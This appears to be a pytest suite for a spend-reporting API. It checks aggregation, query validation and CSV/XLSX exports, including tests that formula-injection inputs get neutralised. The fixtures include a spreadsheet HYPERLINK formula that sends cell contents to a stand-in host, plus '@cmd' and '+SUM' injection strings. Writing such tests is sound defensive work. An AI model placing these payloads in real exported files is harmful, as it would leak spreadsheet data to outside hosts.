import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from portfolio.models import BillingSlice, Delivery
from tests.conftest import BUGCASES_DIR
from tests.factories import scope_with_rules_create, spend_row_create

pytestmark = pytest.mark.django_db

URL = "/api/v1/spend/"


def _group(currency: str, amount: str, count: int, **dimensions) -> dict:
    costs = {f: amount for f in ("billed_cost", "effective_cost", "list_cost", "contracted_cost")}
    return {**dimensions, "billing_currency": currency, **costs, "row_count": count}


@pytest.fixture
def spend(db):
    spend_row_create(cost="10.005", charge_period_start="2025-03-01", service_name="VMs")
    spend_row_create(cost="2.5", charge_period_start="2025-03-31T23:59:59", service_name="VMs")
    spend_row_create(cost="4.00", charge_period_start="2025-04-01", service_name="Storage")
    spend_row_create(cost="150.00", charge_period_start="2025-04-02", billing_currency="EUR")
    spend_row_create(cost="-1.00", charge_period_start="2025-05-01", tags={"team": "a"})


def test_spend_by_month_and_service_is_exact_and_per_currency(
    spend, executive_api, django_assert_max_num_queries
):
    with django_assert_max_num_queries(1):
        response = executive_api.get(URL, {"group_by": "month,service_name"})

    assert response.status_code == 200
    assert response.json() == {
        "results": [
            _group("USD", "12.505", 2, month="2025-03-01", service_name="VMs"),
            _group("EUR", "150.00", 1, month="2025-04-01", service_name="Example VMs"),
            _group("USD", "4.00", 1, month="2025-04-01", service_name="Storage"),
            _group("USD", "-1.00", 1, month="2025-05-01", service_name="Example VMs"),
        ],
        "count": 4,
    }


def test_without_group_by_spend_is_one_total_per_currency(spend, finance_api):
    response = finance_api.get(URL)

    assert response.status_code == 200
    assert response.json() == {
        "results": [_group("EUR", "150.00", 1), _group("USD", "15.505", 4)],
        "count": 2,
    }


def test_start_is_inclusive_and_end_exclusive_on_charge_period_start(spend, executive_api):
    response = executive_api.get(
        URL, {"start": "2025-03-31", "end": "2025-04-02", "group_by": "day"}
    )

    assert response.status_code == 200
    assert response.json() == {
        "results": [
            _group("USD", "2.50", 1, day="2025-03-31"),
            _group("USD", "4.00", 1, day="2025-04-01"),
        ],
        "count": 2,
    }


def test_scope_filter_and_scope_and_tag_dimensions(
    spend, executive_api, django_assert_max_num_queries
):
    scope_with_rules_create("Team A", ("tag", "equals", "a", "team"))

    with django_assert_max_num_queries(3):
        only_scope = executive_api.get(URL, {"scope": "team-a", "group_by": "tag:team"})
    with django_assert_max_num_queries(5):
        by_scope = executive_api.get(URL, {"group_by": "scope"})

    assert only_scope.status_code == 200
    assert only_scope.json() == {
        "results": [_group("USD", "-1.00", 1, **{"tag:team": "a"})],
        "count": 1,
    }
    assert by_scope.json() == {
        "results": [
            _group("USD", "-1.00", 1, scope="team-a"),
            _group("EUR", "150.00", 1, scope=None),
            _group("USD", "16.505", 3, scope=None),
        ],
        "count": 3,
        "notes": [
            "Scope groups can overlap: a row that several scopes claim is counted in each of "
            "them, so scope groups must not be added together. The rows with a null scope are "
            "the spend that no scope claims."
        ],
    }


def test_datetime_dimensions_are_iso_utc(executive_api):
    spend_row_create(cost="1.00", charge_period_start="2025-03-01T10:30:00")

    response = executive_api.get(URL, {"group_by": "charge_period_start"})

    assert response.json()["results"][0]["charge_period_start"] == "2025-03-01T10:30:00Z"


@pytest.mark.parametrize(
    ("query", "message", "fields"),
    [
        (
            {"start": "2025-13-01"},
            "start: '2025-13-01' is not a date; use YYYY-MM-DD.",
            {"start": ["'2025-13-01' is not a date; use YYYY-MM-DD."]},
        ),
        (
            {"end": "yesterday"},
            "end: 'yesterday' is not a date; use YYYY-MM-DD.",
            {"end": ["'yesterday' is not a date; use YYYY-MM-DD."]},
        ),
        (
            {"start": "2025-04-01", "end": "2025-04-01"},
            "end: 2025-04-01 is not after start 2025-04-01; give a later end (it is exclusive).",
            {
                "end": [
                    "2025-04-01 is not after start 2025-04-01; give a later end (it is exclusive)."
                ]
            },
        ),
        (
            {"scope": "nope"},
            "scope: No scope has the slug 'nope'; see /api/v1/scopes/ for the scopes.",
            {"scope": ["No scope has the slug 'nope'; see /api/v1/scopes/ for the scopes."]},
        ),
    ],
)
def test_bad_query_values_are_named_in_a_400_envelope(executive_api, query, message, fields):
    response = executive_api.get(URL, query)

    assert response.status_code == 400
    assert response.json() == {"message": message, "code": "invalid", "fields": fields}


def test_unknown_dimension_is_a_400_listing_the_allowed_ones(executive_api):
    response = executive_api.get(URL, {"group_by": "month,colour", "format": "csv"})

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["code"] == "invalid_dimension"
    assert body["fields"] == {"group_by": ["Unknown dimension 'colour'."]}
    assert body["message"].startswith("Unknown dimension 'colour'; use one of month, day, ")
    assert "service_name" in body["message"] and body["message"].endswith("tag:KEY.")


def test_unknown_format_is_a_400(executive_api):
    response = executive_api.get(URL, {"format": "pdf"})

    assert response.status_code == 400
    assert response.json() == {
        "message": "Unknown format 'pdf'; use json, csv or xlsx.",
        "code": "invalid_format",
        "fields": {"format": ["Unknown format 'pdf'."]},
    }


def test_spend_needs_a_signed_in_user(anonymous_api):
    response = anonymous_api.get(URL)

    assert response.status_code == 401
    assert response.json() == {
        "message": "Authentication credentials were not provided.",
        "code": "not_authenticated",
        "fields": {},
    }


def test_csv_export_has_exact_amounts_and_one_line_per_group(
    spend, finance_api, django_assert_max_num_queries
):
    with django_assert_max_num_queries(1):
        response = finance_api.get(URL, {"group_by": "month", "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="spend.csv"'
    assert response.content.decode("utf-8") == (
        "\ufeffmonth,billing_currency,billed_cost,effective_cost,list_cost,contracted_cost,row_count\r\n"
        "2025-03-01,USD,12.505,12.505,12.505,12.505,2\r\n"
        "2025-04-01,EUR,150.00,150.00,150.00,150.00,1\r\n"
        "2025-04-01,USD,4.00,4.00,4.00,4.00,1\r\n"
        "2025-05-01,USD,-1.00,-1.00,-1.00,-1.00,1\r\n"
    )


def _load_b18() -> list[dict[str, str]]:
    with open(BUGCASES_DIR / "B18-formula-injection.csv", newline="", encoding="utf-8") as file:
        source = list(csv.DictReader(file))
    delivery = Delivery.objects.create(status=Delivery.Status.LOADED)
    billing_slice = BillingSlice.objects.create(
        delivery=delivery,
        billing_account_id="ba-1001",
        billing_period_start=dt.datetime(2025, 3, 1, tzinfo=dt.UTC),
        billing_period_end=dt.datetime(2025, 4, 1, tzinfo=dt.UTC),
    )
    for record in source:
        spend_row_create(
            billing_slice=billing_slice,
            cost=record["BilledCost"],
            sub_account_name=record["SubAccountName"],
            charge_description=record["ChargeDescription"],
            resource_name=record["ResourceName"] or None,
            charge_category=record["ChargeCategory"],
            tags=json.loads(record["Tags"]),
        )
    return source


B18_GROUPS = "sub_account_name,charge_description,resource_name"


def test_csv_export_neutralises_formula_text_but_keeps_negative_amounts_numbers(finance_api):
    source = _load_b18()

    response = finance_api.get(URL, {"group_by": B18_GROUPS, "format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [
        [
            "sub_account_name",
            "charge_description",
            "resource_name",
            "billing_currency",
            "billed_cost",
            "effective_cost",
            "list_cost",
            "contracted_cost",
            "row_count",
        ],
        [
            '\'=HYPERLINK("http://example.invalid/x?d="&A1,"open")',
            "VM runtime",
            "vm-web-01",
            "USD",
            "12.00",
            "12.00",
            "12.00",
            "12.00",
            "1",
        ],
        [
            "Team Alpha",
            "'\tCredit with leading tab",
            "",
            "USD",
            "-5.00",
            "-5.00",
            "-5.00",
            "-5.00",
            "1",
        ],
        ["Team Alpha", "'@cmd test", "'+SUM(1,2)", "USD", "8.00", "8.00", "8.00", "8.00", "1"],
    ]
    total = sum((Decimal(r[4]) for r in rows[1:]), Decimal(0))
    assert total == sum((Decimal(r["BilledCost"]) for r in source), Decimal(0)) == Decimal("15.00")


def test_csv_export_neutralises_a_tag_value_that_looks_like_a_formula(finance_api):
    _load_b18()

    response = finance_api.get(URL, {"group_by": "tag:owner", "format": "csv"})

    assert response.content.decode("utf-8-sig").splitlines()[1:] == [
        "'-2+3,USD,8.00,8.00,8.00,8.00,1",
        ",USD,7.00,7.00,7.00,7.00,2",
    ]


def test_json_export_keeps_the_text_exactly_as_stored(finance_api):
    _load_b18()

    response = finance_api.get(URL, {"group_by": B18_GROUPS})

    assert [
        (r["sub_account_name"], r["charge_description"], r["resource_name"], r["billed_cost"])
        for r in response.json()["results"]
    ] == [
        ('=HYPERLINK("http://example.invalid/x?d="&A1,"open")', "VM runtime", "vm-web-01", "12.00"),
        ("Team Alpha", "\tCredit with leading tab", None, "-5.00"),
        ("Team Alpha", "@cmd test", "+SUM(1,2)", "8.00"),
    ]


def test_xlsx_export_has_numeric_exact_amounts_and_never_formulas(
    finance_api, django_assert_max_num_queries
):
    _load_b18()
    spend_row_create(
        cost="0.000000000000000001", charge_period_start="2025-05-01", sub_account_name="Tiny"
    )

    with django_assert_max_num_queries(1):
        response = finance_api.get(URL, {"group_by": "month,sub_account_name", "format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="spend.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["Spend"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == [
        "month",
        "sub_account_name",
        "billing_currency",
        "billed_cost",
        "effective_cost",
        "list_cost",
        "contracted_cost",
        "row_count",
    ]
    assert values[1][1] == '=HYPERLINK("http://example.invalid/x?d="&A1,"open")'
    assert sheet.cell(row=2, column=2).data_type == "s"
    assert values[2][1:4] == ["Team Alpha", "USD", 3]
    assert values[1][0] == dt.datetime(2025, 3, 1)
    sheet_xml = (
        zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    )
    assert "<f>" not in sheet_xml
    assert [Decimal(repr(row[3])) for row in values[1:]] == [
        Decimal("12.00"),
        Decimal("3.00"),
        Decimal("0.000000000000000001"),
    ]
    assert sheet.cell(row=3, column=4).number_format == "#,##0.00##########"
